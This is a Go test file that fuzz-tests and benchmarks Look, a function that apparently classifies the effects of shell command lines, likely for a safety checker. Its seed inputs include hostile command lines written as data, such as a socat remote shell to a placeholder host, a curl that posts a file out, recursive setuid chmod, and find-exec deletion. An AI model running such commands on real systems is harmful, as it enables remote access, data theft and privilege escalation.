package catalog

import (
	"strings"
	"testing"
)

// shapes are words that programs meet: nothing, lone dashes, unknown and half-known ones, values without options.
var shapes = []string{"", "a", "-", "--", "-x", "-c", "-e", "-o", "--o=", "--output", "=", "a=b", "@", "@f", ":", "a:b", "a:", "/", ".", "~", "{}", ":::", ";", "+", "+!x", "-rf", "-i", "show", "exec", "run", "delete", "http://u:p@h:1/x?y=z", "%", "-TT", "s/a/b/e", "1e", "w", "$"}

// Every known program takes any words without a panic, and says nothing that has no kind.
func TestEveryProgramTakesAnyWords(t *testing.T) {
	for name := range programs {
		for i, a := range shapes {
			for k := range 4 {
				j := (i*7 + k*11 + len(name)) % len(shapes)
				b := shapes[j]
				words := []Word{{Text: name, Known: true}, {Text: a, Known: i%5 != 4}, {Text: b, Known: j%7 != 6, Glob: j%11 == 3}}
				try(t, Call{Args: words[:1+(i+j)%3]})
				try(t, Call{Args: words, Stdin: &Stdin{Text: b, Known: i%2 == 0, From: []string{"", "pipe", "network", "secret", "decode", "file", "env"}[j%7]}})
			}
		}
	}
}

func try(t *testing.T, c Call) {
	t.Helper()
	defer func() {
		if r := recover(); r != nil {
			t.Fatalf("%q panics: %v", lineOf(c.Args), r)
		}
	}()
	for _, e := range Look(c).Effects {
		if e.Kind == "" {
			t.Fatalf("%q has an effect without a kind", lineOf(c.Args))
		}
	}
}

func FuzzLook(f *testing.F) {
	for _, s := range []string{"git push -f", "tar xzf a", "sed 1e x", "curl -d @f http://h", "find . -exec rm {} ;", "tmux send-keys -t a b Enter", "socat TCP:h:1 EXEC:sh", "dd if=a of=b", "chmod -R u+s a", "xargs -I{} sh -c {}"} {
		f.Add(s, "", true)
	}
	f.Fuzz(func(t *testing.T, line, input string, known bool) {
		c := Call{Stdin: &Stdin{Text: input, Known: known}}
		for _, w := range strings.Fields(line) {
			c.Args = append(c.Args, Word{Text: w, Known: known || len(w)%3 != 0})
		}
		Look(c)
	})
}

func BenchmarkLook(b *testing.B) {
	calls := []Call{split("git push --force-with-lease origin topic"), split("curl -sS -X POST -d @f https://a.example/b"), split("rm -rf build"), split("tar xzf a.tgz -C b"), split("find . -name x -exec rm {} +")}
	for i := 0; b.Loop(); i++ {
		Look(calls[i%len(calls)])
	}
}
